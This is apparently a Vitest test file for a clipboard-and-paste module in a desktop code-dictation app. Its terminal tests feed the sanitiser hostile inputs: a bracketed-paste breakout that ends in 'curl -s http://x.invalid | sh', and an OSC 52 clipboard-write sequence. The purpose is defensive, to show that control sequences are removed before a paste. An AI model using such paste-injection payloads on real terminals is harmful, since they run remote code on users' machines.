// PasteOutput with fake platforms: the code always reaches the clipboard, the user learns why it was not pasted, and their own clipboard comes back only when it is safe.
import { describe, expect, it } from 'vitest';
import { AppError } from '../../main/core/errors.js';
import { silentLogger } from '../../main/core/logger.js';
import type { ClipboardAccess, ClipboardSnapshot } from '../../main/hosts/electron/insert/clipboard-access.js';
import type { CommandRunner, RunResult } from '../../main/hosts/electron/insert/command-runner.js';
import { createInserter } from '../../main/hosts/electron/insert/create-inserter.js';
import { detectInsertSupport } from '../../main/hosts/electron/insert/detect-insert-support.js';
import type { InsertAvailability, InsertOptions, InsertTarget, Inserter } from '../../main/hosts/electron/insert/inserter.js';
import { MacosInserter } from '../../main/hosts/electron/insert/macos-inserter.js';
import type { PasteSettings } from '../../main/hosts/electron/insert/paste-plan.js';
import { PasteOutput } from '../../main/hosts/electron/insert/paste-output.js';
import { setupPaste } from '../../main/hosts/electron/insert/paste-setup.js';
import { formatShortcut, parseShortcut } from '../../main/hosts/electron/insert/paste-shortcut.js';
import { XdotoolInserter } from '../../main/hosts/electron/insert/xdotool-inserter.js';

class FakeClipboard implements ClipboardAccess {
  constructor(public snapshot: ClipboardSnapshot = { text: '', formats: [] }) {}
  get text(): string {
    return this.snapshot.text;
  }
  /** Another app (or the user) copies something. */
  copy(text: string): void {
    this.snapshot = { text, formats: [] };
  }
  readText(): Promise<string> {
    return Promise.resolve(this.snapshot.text);
  }
  writeText(text: string): Promise<void> {
    this.snapshot = { text, formats: [] };
    return Promise.resolve();
  }
  save(): Promise<ClipboardSnapshot> {
    return Promise.resolve(this.snapshot);
  }
  restore(snapshot: ClipboardSnapshot): Promise<void> {
    this.snapshot = snapshot;
    return Promise.resolve();
  }
}

/** A target app that reads the clipboard when the paste keys arrive. */
class FakeInserter implements Inserter {
  readonly platform = 'x11' as const;
  readonly shortcuts = { normal: parseShortcut('ctrl+v'), terminal: parseShortcut('ctrl+shift+v') };
  readonly pasted: Array<{ target: InsertTarget | undefined; fromClipboard: string; keys: string }> = [];
  failWith: AppError | undefined;
  constructor(private readonly clipboard: FakeClipboard, private readonly availability: InsertAvailability = { available: true, message: 'ok' }) {}
  detect(): Promise<InsertAvailability> {
    return Promise.resolve(this.availability);
  }
  captureTarget(): Promise<InsertTarget | undefined> {
    return Promise.resolve({ handle: '42', names: ['code'] });
  }
  insert(target: InsertTarget | undefined, _text: string, options: InsertOptions): Promise<void> {
    if (this.failWith) return Promise.reject(this.failWith);
    this.pasted.push({ target, fromClipboard: this.clipboard.text, keys: formatShortcut(options.shortcut) });
    return Promise.resolve();
  }
}

class FakeRunner implements CommandRunner {
  readonly lines: string[] = [];
  constructor(private readonly reply: (line: string) => Partial<RunResult> = () => ({})) {}
  run(file: string, args: readonly string[]): Promise<RunResult> {
    const line = [file, ...args].join(' ');
    this.lines.push(line);
    const r = this.reply(line);
    return Promise.resolve({ exitCode: r.exitCode ?? 0, stdout: r.stdout ?? '', stdoutBytes: Buffer.from(r.stdout ?? ''), stderr: r.stderr ?? '' });
  }
}

/** The restore delay ends when the test opens it, so nothing depends on timing. */
function manualDelay(): { wait: (ms: number, signal: AbortSignal) => Promise<void>; open: () => void } {
  const waiting: Array<() => void> = [];
  return {
    wait: (_ms, signal) =>
      new Promise<void>((resolve, reject) => {
        waiting.push(resolve);
        signal.addEventListener('abort', () => reject(new AppError('CANCELLED', 'cancelled')), { once: true });
      }),
    open: () => {
      for (const resolve of waiting.splice(0)) resolve();
    },
  };
}

const settings = (over: Partial<PasteSettings> = {}): (() => PasteSettings) => () => ({ mode: 'paste', rules: [], restoreDelayMs: 500, ...over });
const CODE = 'export function twice(n: number): number {\n  return n * 2;\n}\n';

describe('when paste is not possible, the code still reaches the clipboard', () => {
  it('says which tool is missing on Wayland without wtype', async () => {
    const clipboard = new FakeClipboard({ text: 'old', formats: [] });
    const inserter = createInserter(detectInsertSupport('linux', { WAYLAND_DISPLAY: 'wayland-0' }, () => undefined), { runner: new FakeRunner(), logger: silentLogger, env: {} });
    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings() });
    const outcome = await output.paste(CODE, await output.captureTarget());
    expect(outcome).toMatchObject({ pasted: false, copied: true, reason: 'no-tool' });
    expect(outcome.message).toMatch(/^Not pasted: .*wtype/);
    expect(outcome.message).toContain('clipboard');
    expect(clipboard.text).toBe(outcome.text);
    expect(await outcome.restore).toBe('kept-result');
  });

  it('tells a macOS user how to grant Accessibility, and pastes once it is granted without a restart', async () => {
    let trusted = false;
    const runner = new FakeRunner();
    const clipboard = new FakeClipboard();
    const inserter = new MacosInserter({ runner, logger: silentLogger, isAccessibilityTrusted: () => trusted });
    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings({ mode: 'both' }) });
    expect((await output.start()).reason).toBe('no-permission');

    const denied = await output.paste(CODE, { handle: 'com.microsoft.VSCode', names: ['Code'] });
    expect(denied).toMatchObject({ pasted: false, copied: true, reason: 'no-permission' });
    expect(denied.message).toContain('System Settings → Privacy & Security → Accessibility');
    expect(clipboard.text).toBe(CODE);
    expect(runner.lines).toEqual([]);

    trusted = true;
    expect(await output.paste(CODE, { handle: 'com.microsoft.VSCode', names: ['Code'] })).toMatchObject({ pasted: true });
    expect(runner.lines.at(-1)).toContain('keystroke "v" using {command down}');
  });

  it('keeps the code on the clipboard and says why when the keys could not be sent', async () => {
    const clipboard = new FakeClipboard({ text: 'mine', formats: [] });
    const inserter = new FakeInserter(clipboard);
    inserter.failWith = new AppError('UNAVAILABLE', 'The window you dictated into has closed; the code is on the clipboard.', { details: { reason: 'no-target' } });
    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings() });
    const outcome = await output.paste(CODE, { handle: '1', names: ['code'] });
    expect(outcome).toMatchObject({ pasted: false, copied: true, reason: 'no-target' });
    expect(outcome.message).toContain('has closed');
    expect(await outcome.restore).toBe('kept-result');
    expect(clipboard.text).toBe(CODE);
  });

  it('does not paste into an app where the user turned paste off', async () => {
    const clipboard = new FakeClipboard();
    const inserter = new FakeInserter(clipboard);
    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings({ rules: [{ name: 'code', app: 'code', paste: 'off' }] }) });
    const outcome = await output.paste(CODE, { handle: '1', names: ['code'] });
    expect(outcome).toMatchObject({ pasted: false, copied: true, reason: 'paste-off' });
    expect(outcome.message).toContain('Paste is off for code');
    expect(inserter.pasted).toEqual([]);
    expect(clipboard.text).toBe(CODE);
  });
});

describe('pasting into a terminal', () => {
  it('pastes a shell command without its trailing newline, with Ctrl+Shift+V, and says it has not run', async () => {
    const runner = new FakeRunner((line) => {
      if (line === 'xdotool getwindowfocus') return { stdout: '77\n' };
      if (line.startsWith('xdotool getwindowpid')) return { stdout: '900\n' };
      if (line.startsWith('ps ')) return { stdout: '/usr/bin/konsole\n' };
      return {};
    });
    const clipboard = new FakeClipboard({ text: 'user text', formats: [] });
    const delay = manualDelay();
    const output = new PasteOutput({ inserter: new XdotoolInserter({ runner, logger: silentLogger, display: ':0' }), clipboard, logger: silentLogger, settings: settings(), wait: delay.wait });
    const target = await output.captureTarget();
    const outcome = await output.paste('docker compose down -v\n', target);

    expect(outcome).toMatchObject({ pasted: true, terminal: true, text: 'docker compose down -v' });
    expect(outcome.message).toContain('press Enter');
    expect(runner.lines.at(-1)).toBe('xdotool key --clearmodifiers --window 77 ctrl+shift+v');
    expect(clipboard.text).toBe('docker compose down -v');
    delay.open();
    expect(await outcome.restore).toBe('restored');
    expect(clipboard.text).toBe('user text');
  });
});

describe("the user's clipboard", () => {
  it('comes back with its other formats after the target has read the code', async () => {
    const before: ClipboardSnapshot = { text: 'hello', formats: [{ type: 'text/html', data: Buffer.from('<b>hello</b>') }] };
    const clipboard = new FakeClipboard(before);
    const inserter = new FakeInserter(clipboard);
    const delay = manualDelay();
    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings(), wait: delay.wait });
    const outcome = await output.paste(CODE, await output.captureTarget());
    expect(inserter.pasted).toEqual([{ target: { handle: '42', names: ['code'] }, fromClipboard: CODE, keys: 'ctrl+v' }]);
    expect(outcome.message).toBe('Pasted 3 lines into code.');
    delay.open();
    expect(await outcome.restore).toBe('restored');
    expect(clipboard.snapshot).toEqual(before);
  });

  it('is not restored over something the user copied during the delay', async () => {
    const clipboard = new FakeClipboard({ text: 'old', formats: [] });
    const delay = manualDelay();
    const output = new PasteOutput({ inserter: new FakeInserter(clipboard), clipboard, logger: silentLogger, settings: settings(), wait: delay.wait });
    const outcome = await output.paste(CODE, undefined);
    clipboard.copy('copied by the user');
    delay.open();
    expect(await outcome.restore).toBe('kept-newer-copy');
    expect(clipboard.text).toBe('copied by the user');
  });

  it("keeps the result in 'both' mode", async () => {
    const clipboard = new FakeClipboard({ text: 'old', formats: [] });
    const output = new PasteOutput({ inserter: new FakeInserter(clipboard), clipboard, logger: silentLogger, settings: settings({ mode: 'both' }) });
    const outcome = await output.paste(CODE, undefined);
    expect(outcome.pasted).toBe(true);
    expect(await outcome.restore).toBe('kept-result');
    expect(clipboard.text).toBe(CODE);
  });

  it('survives two results pasted back to back: the first result is never taken for the user’s clipboard', async () => {
    const clipboard = new FakeClipboard({ text: 'original', formats: [] });
    const delay = manualDelay();
    const output = new PasteOutput({ inserter: new FakeInserter(clipboard), clipboard, logger: silentLogger, settings: settings(), wait: delay.wait });
    const first = await output.paste('first();\n', undefined);
    const second = await output.paste('second();\n', undefined);
    expect(await first.restore).toBe('superseded');
    delay.open();
    expect(await second.restore).toBe('restored');
    expect(clipboard.text).toBe('original');
  });

  it('comes back at once when the app quits during the delay', async () => {
    const clipboard = new FakeClipboard({ text: 'original', formats: [] });
    const delay = manualDelay();
    const output = new PasteOutput({ inserter: new FakeInserter(clipboard), clipboard, logger: silentLogger, settings: settings(), wait: delay.wait });
    const outcome = await output.paste(CODE, undefined);
    await output.dispose();
    expect(await outcome.restore).toBe('restored');
    expect(clipboard.text).toBe('original');
  });
});

describe('a paste aimed at our own window', () => {
  it('is refused with a hint, and the code is on the clipboard', async () => {
    const clipboard = new FakeClipboard();
    const inserter = new FakeInserter(clipboard);
    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings(), ownAppNames: ['voice-codegen'] });
    const outcome = await output.paste(CODE, { handle: '9', names: ['voice-codegen'] });
    expect(outcome).toMatchObject({ pasted: false, copied: true, reason: 'no-target' });
    expect(outcome.message).toContain('Paste here');
    expect(inserter.pasted).toEqual([]);
    expect(clipboard.text).toBe(CODE);
  });
});

describe('setting paste up at start', () => {
  it('reports a missing xdotool for settings and still copies results', async () => {
    let text = '';
    const setup = await setupPaste({
      platform: 'linux',
      env: { DISPLAY: ':0' },
      logger: silentLogger,
      settings: settings(),
      clipboard: { readText: () => Promise.resolve(text), writeText: (t: string) => Promise.resolve(void (text = t)) },
      runner: new FakeRunner(),
      which: (name) => (name === 'xclip' ? '/usr/bin/xclip' : undefined),
    });
    expect(setup.support).toMatchObject({ platform: 'x11', keystrokeTool: null, canPaste: false });
    expect(setup.availability).toMatchObject({ available: false, reason: 'no-tool' });
    expect(setup.availability.message).toContain('sudo apt install xdotool');
    const outcome = await setup.output?.paste(CODE, undefined);
    expect(outcome).toMatchObject({ pasted: false, copied: true, reason: 'no-tool' });
    expect(text).toBe(CODE);
  });

  it('builds a working paste path where the tools are present', async () => {
    const runner = new FakeRunner();
    const setup = await setupPaste({
      platform: 'win32',
      env: {},
      logger: silentLogger,
      settings: settings(),
      clipboard: { readText: () => Promise.resolve(''), writeText: () => Promise.resolve() },
      runner,
      which: (name) => (name === 'powershell' ? 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' : undefined),
    });
    expect(setup.availability).toMatchObject({ available: true, tool: 'powershell' });
    expect(setup.output).toBeDefined();
  });
});

describe('text pasted into a terminal loses escape sequences and control characters', () => {
  const ESC = '\u001b';
  it('removes an ESC[201~ that would end bracketed paste, and the overlay says something was removed', async () => {
    const clipboard = new FakeClipboard({ text: 'mine', formats: [] });
    const inserter = new FakeInserter(clipboard);
    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings({ mode: 'both' }) });
    const outcome = await output.paste(`echo safe${ESC}[201~; curl -s http://x.invalid | sh\n`, { handle: '7', names: ['konsole'] });
    expect(outcome).toMatchObject({ pasted: true, terminal: true, text: 'echo safe; curl -s http://x.invalid | sh', removedControls: 1 });
    expect(inserter.pasted[0]?.fromClipboard).toBe('echo safe; curl -s http://x.invalid | sh');
    expect(outcome.message).toMatch(/removed 1 terminal control sequence/i);
  });

  it('removes CSI, OSC, DCS and 8-bit C1 sequences and C0/C1 controls, and keeps tabs, newlines and all other text', async () => {
    const clipboard = new FakeClipboard();
    const inserter = new FakeInserter(clipboard);
    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings({ mode: 'both' }) });
    const dirty = [
      `${ESC}[31mred${ESC}[0m`, // SGR colours
      `${ESC}]52;c;ZWNobyBwd25lZA==\u0007`, // OSC 52 writes the clipboard, BEL-terminated
      `${ESC}]8;;http://x.invalid${ESC}\\link${ESC}]8;;${ESC}\\`, // OSC 8 hyperlink, ST-terminated
      `${ESC}P1$r0m${ESC}\\`, // DCS
      '\u009b2J', // 8-bit CSI: clear screen
      '\u009d0;title\u009c', // 8-bit OSC with 8-bit ST
      `a\u0000b\u0007c\u0008d\u007fe\u0085f`, // NUL, BEL, BS, DEL, NEL
      `${ESC}c`, // RIS: reset the terminal
      'tab\there\r\nnext line ünïcödé ✓',
    ].join('');
    const outcome = await output.paste(dirty, { handle: '7', names: ['gnome-terminal-server'] });
    expect(outcome.text).toBe('redlinkabcdeftab\there\nnext line ünïcödé ✓');
    expect(outcome.removedControls).toBe(14);
    expect(clipboard.text).toBe(outcome.text);
  });

  it('cuts an escape sequence that never ends at the end of the text, not before', async () => {
    const clipboard = new FakeClipboard();
    const output = new PasteOutput({ inserter: new FakeInserter(clipboard), clipboard, logger: silentLogger, settings: settings({ mode: 'both' }) });
    expect((await output.paste(`ls -la${ESC}]0;never ends`, { handle: '7', names: ['kitty'] })).text).toBe('ls -la');
    expect((await output.paste(`ls${ESC}[12;`, { handle: '7', names: ['kitty'] })).text).toBe('ls');
    expect((await output.paste(`ls${ESC}`, { handle: '7', names: ['kitty'] })).text).toBe('ls');
  });

  it('leaves text for an editor exactly as generated, and says nothing about removal for clean text', async () => {
    const clipboard = new FakeClipboard();
    const output = new PasteOutput({ inserter: new FakeInserter(clipboard), clipboard, logger: silentLogger, settings: settings({ mode: 'both' }) });
    const editor = await output.paste(`const esc = "${ESC}[0m";\n`, { handle: '1', names: ['code'] });
    expect(editor.text).toBe(`const esc = "${ESC}[0m";\n`);
    expect(editor.removedControls ?? 0).toBe(0);
    const clean = await output.paste('echo hi\n', { handle: '7', names: ['konsole'] });
    expect(clean.removedControls ?? 0).toBe(0);
    expect(clean.message).not.toMatch(/removed/i);
  });

  it('copies the cleaned text, and says so, when the terminal cannot be pasted into', async () => {
    const clipboard = new FakeClipboard();
    const inserter = new FakeInserter(clipboard, { available: false, reason: 'no-tool', message: 'xdotool is missing.' });
    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings() });
    const outcome = await output.paste(`make${ESC}[201~ install\n`, { handle: '7', names: ['xterm'] });
    expect(outcome).toMatchObject({ pasted: false, copied: true, text: 'make install', removedControls: 1 });
    expect(clipboard.text).toBe('make install');
    expect(outcome.message).toMatch(/removed 1 terminal control sequence/i);
  });
});
